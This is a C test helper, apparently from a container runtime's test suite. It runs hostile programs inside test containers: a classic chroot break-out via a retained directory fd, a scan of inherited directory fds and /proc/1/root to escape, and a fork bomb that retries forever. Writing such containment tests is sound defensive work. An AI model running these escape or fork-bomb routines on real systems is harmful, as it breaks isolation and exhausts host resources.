/* Hostile programs run inside test containers.
 *   hostile chroot MARKER | hostile fds MARKER: escape attempts; print ESCAPED (exit 0) if the
 *       host file MARKER becomes visible, else "contained" (exit 1)
 *   hostile forkbomb: every process forks forever, retrying when fork fails */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void climb(void) {
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
}

static void forkbomb(void) {
    struct timespec pause = {0, 2000000};
    for (;;) {
        if (fork() < 0) nanosleep(&pause, NULL);
    }
}

int main(int argc, char **argv) {
    if (argc == 2 && strcmp(argv[1], "forkbomb") == 0) forkbomb();
    if (argc != 3) return 2;
    if (strcmp(argv[1], "chroot") == 0) {
        /* the classic break-out: keep a directory fd, chroot deeper, fchdir back out, climb */
        mkdir("/tmp/jail", 0755);
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        if (chroot("/tmp/jail") != 0) { perror("chroot"); return 2; }
        if (fchdir(fd) != 0) { perror("fchdir"); return 2; }
        climb();
    } else if (strcmp(argv[1], "fds") == 0) {
        /* any directory fd inherited from the runtime would lead out of the container */
        for (int fd = 3; fd < 4096; fd++) {
            struct stat st;
            if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
                printf("inherited directory fd %d\n", fd);
                if (fchdir(fd) == 0) climb();
            }
        }
        int root = open("/proc/1/root/..", O_RDONLY | O_DIRECTORY);
        if (root >= 0 && fchdir(root) == 0) climb();
    }
    if (access(argv[2], F_OK) == 0) { printf("ESCAPED\n"); return 0; }
    printf("contained\n");
    return 1;
}
